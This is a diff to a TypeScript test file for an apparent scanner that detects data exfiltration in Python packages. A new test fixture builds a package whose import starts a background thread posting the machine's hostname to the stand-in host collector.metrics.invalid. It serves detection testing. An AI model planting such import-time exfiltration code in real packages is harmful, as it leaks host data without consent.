@@ -4,7 +4,7 @@ import { inspect, python, wheel } from '../../../support/inspect.ts';
 /** A module that tells a host this machine's name; `carry` is what the address, the name and the form pass through. */
 function teller(...carry: readonly string[]): string {
   return python(
-    'import asyncio, collections, contextvars, dataclasses, enum, heapq, io, itertools, json, operator, queue, types, typing',
+    'import ast, asyncio, collections, contextvars, dataclasses, enum, heapq, io, itertools, json, operator, os, queue, string, types, typing',
     'import socket, urllib.parse, weakref, concurrent.futures, requests',
     'def carry(value):',
     ...carry.map((line) => `    ${line}`),
@@ -69,6 +69,9 @@ const CARRIERS: readonly (readonly [string, readonly string[]])[] = [
       'return A(value).x',
     ],
   ],
+  ['a variable of the environment', ["os.environ['KEPT'] = value", "return os.environ['KEPT']"]],
+  ['a form of texts', ["return string.Template('$x').substitute(x=value)"]],
+  ['a literal in a text', ['return ast.literal_eval(repr(value))']],
   ['a name that eval reads', ["return eval('value')"]],
 ];
 
@@ -78,6 +81,22 @@ describe('what a program puts into something and takes out again is still what i
 
     expect(finding).toMatchObject({ class: 'malware', context: 'import' });
     expect(finding?.message).toContain('collector.metrics.invalid');
+  });
+
+  test('a worker is told what is put into its queue after it was started', async () => {
+    const file = wheel({
+      'pkg/__init__.py': python(
+        'import queue, requests, socket, threading',
+        'q = queue.Queue()',
+        'def work():',
+        '    while True:',
+        "        requests.post('https://collector.metrics.invalid/a', data=q.get())",
+        'threading.Thread(target=work, daemon=True).start()',
+        'q.put(socket.gethostname())',
+      ),
+    });
+
+    expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'import', line: 5 }]);
   });
 
   test('parts of an address are known when it is taken apart', async () => {
